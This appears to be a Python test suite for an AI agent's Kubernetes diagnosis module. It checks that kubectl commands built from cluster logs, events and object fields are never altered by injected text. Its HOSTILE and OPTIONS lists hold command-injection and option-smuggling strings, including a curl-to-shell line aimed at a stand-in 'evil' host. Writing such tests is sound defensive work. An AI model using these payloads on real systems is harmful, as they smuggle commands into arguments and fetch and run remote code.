"""Commands: whatever a log, an event or an object holds, a command is exactly the words meant, or there is none."""

import re
import shlex
from functools import cache

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agent.diagnosis.command import Command, Withheld, kubectl
from agent.diagnosis.engine import Diagnosis
from tests.hostile.evidence import Recorded, recorded, recorded_names

MARK = "evil"
HOSTILE = (
    f";curl${{IFS}}http://{MARK}/x|sh;#",
    f"$(touch /tmp/{MARK})",
    f"`{MARK}`",
    f"' && {MARK} && '",
    f'" ; {MARK} ; "',
    f"\n{MARK}\n",
    f" --all --{MARK}",
    f",{MARK}=1",
    f"/{MARK}",
    f"{{namespace}}{MARK}<{MARK}>",
    f"\u202e{MARK}\u00fc",
    f"\x1b[2J{MARK}",
)
OPTIONS = (f"--kubeconfig=/tmp/{MARK}", f"-n{MARK}", f"-o=go-template={{{{{MARK}}}}}", f"--{MARK}", "--", "-")
VERBS = re.compile(
    "annotate|auth|autoscale|cordon|create|delete|describe|edit|get|label|logs|patch|rollout|scale|set|taint|top|uncordon"
)
FLAGS = re.compile(
    "-[nclop]|--(?:previous|all-namespaces|all-containers|tail|type|replicas|min|max|cpu-percent|limits|requests"
    "|grace-period|verb|resource|role|clusterrole|serviceaccount|as|containers|sort-by|field-selector|from-literal"
    "|cert|key|watch|overwrite)(?:=.*)?"
)
RECORDED = recorded_names()
APART = 6  # each hostile word meets every sixth recording


@cache
def fields() -> dict[str, list[Recorded]]:
    """The fields of all recordings, each with the recordings that have it."""
    found: dict[str, list[Recorded]] = {}
    for each in map(recorded, RECORDED):
        for path in sorted({path for path, _ in each.texts()}):
            found.setdefault(path, []).append(each)
    return dict(sorted(found.items()))


def check(diagnosis: Diagnosis) -> int:
    """Every command is the words meant, or its recommendation says that it is withheld; returns how many are."""
    withheld = 0
    for advice in (advice for finding in diagnosis.findings for advice in finding.recommendations):
        for command in (advice.command, advice.verify):
            if isinstance(command, Withheld):
                assert MARK not in command.why and command.why in advice.told
                withheld += 1
            elif command is not None:
                check_words(command)
    return withheld


def check_words(command: Command) -> None:
    text = str(command)
    assert MARK not in text and text.isascii() and text.isprintable()
    assert shlex.split(text) == [word for call in command.calls for word in ("&&", *call)][1:]
    for call in command.calls:
        rest = call[3:] if call[1] == "-n" else call[1:]
        assert call[0] == "kubectl" and VERBS.fullmatch(rest[0])
        assert all(FLAGS.fullmatch(word) for word in call if word.startswith("-"))


@cache
def names(name: str) -> re.Pattern[str]:
    """What people named in the recording of that name: objects, containers and what objects refer to by name."""
    found = {
        text
        for path, text in recorded(name).texts()
        if re.search(r"(?:^|\.|[a-z])[nN]ame$", path) and len(text) > 2
        and not path.startswith(("involvedObject.fieldPath", "spec.metrics", "status.currentMetrics"))
    }  # fmt: skip
    words = "|".join(map(re.escape, sorted(found, key=len, reverse=True)))
    return re.compile(rf"(?<![A-Za-z0-9_-])(?:{words})(?![A-Za-z0-9_-])")


SLOTS = (
    "home", "name", "node", "container", "account", "role", "verb", "resource", "variable", "measure", "amount",
    "key", "value",
)  # fmt: skip


@given(st.sampled_from(SLOTS), st.text(max_size=80) | st.sampled_from([*HOSTILE, *OPTIONS]))
@settings(max_examples=500, deadline=None, derandomize=True)
def test_a_text_fills_its_slot_as_one_word_or_not_at_all(slot: str, text: str) -> None:
    command = kubectl("shop", f"get {{{slot}}}", **{slot: text})
    if isinstance(command, Command):
        check_words(command)
        assert command.calls[0][4:] == (text,) and not text.startswith("-")


def test_without_anything_hostile_no_command_is_withheld() -> None:
    assert sum(check(recorded(name).diagnose()) for name in RECORDED) == 0


@pytest.mark.parametrize("hostile", [*HOSTILE, *OPTIONS], ids=repr)
def test_hostile_names_reach_no_command(hostile: str) -> None:
    """Each name, wherever it stands, goes on with hostile words or begins with a dash.

    Every word meets other recordings, and every recording meets several words.
    """
    behind = hostile not in OPTIONS
    withheld = 0
    every = (*HOSTILE, *OPTIONS)
    for each in RECORDED[every.index(hostile) % APART :: APART]:
        named = names(each)

        def change(path: str, text: str, pattern: re.Pattern[str] = named) -> str:
            return pattern.sub(lambda name: name[0] + hostile if behind else hostile + name[0], text)

        withheld += check(recorded(each).diagnose(change))
    assert withheld > 20


@given(st.data())
@settings(max_examples=300, deadline=None, derandomize=True)
def test_no_text_of_any_field_reaches_a_command(data: st.DataObject) -> None:
    """One kind of field is hostile, as a whole or behind what it held, and all the rest is as recorded."""
    field = data.draw(st.sampled_from(list(fields())))
    spoiled = data.draw(st.sampled_from(fields()[field]))
    hostile = data.draw(st.sampled_from([*HOSTILE, *OPTIONS]))
    whole = data.draw(st.booleans())

    def change(path: str, text: str) -> str:
        return (hostile if whole else text + hostile) if path == field else text

    check(spoiled.diagnose(change, field))


@pytest.mark.parametrize("name", RECORDED)
def test_hostile_lines_and_messages_reach_no_command(name: str) -> None:
    """What programs and controllers say names something hostile wherever it quotes a name."""

    def change(path: str, text: str) -> str:
        if not path.endswith(("message", "logs", "note")):
            return text
        return re.sub(r"(?<=[\"'`])([\w.:/-]+)(?=[\"'`])", lambda m: m[1] + HOSTILE[0], text)

    check(recorded(name).diagnose(change))
